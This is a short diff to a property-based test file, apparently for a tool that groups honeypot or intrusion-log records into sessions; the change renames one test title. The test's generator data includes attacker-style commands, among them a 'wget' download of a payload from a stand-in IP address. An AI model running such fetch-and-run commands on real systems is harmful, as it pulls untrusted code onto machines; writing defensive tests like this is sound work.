@@ -86,7 +86,7 @@ test("a session is one observation with all that its records know", async () => 
   ]);
 });
 
-test("sessions come out the same however their records are cut into batches, repeated, and stored at once", async () => {
+test("sessions come out the same however their records are cut into batches, repeated, and stored concurrently", async () => {
   const name = fc.constantFrom("root", "admin", "pi", "oracle");
   const command = fc.constantFrom("id", "uname -a", "wget http://198.51.100.9/x", "ps");
   const sessions = fc.array(
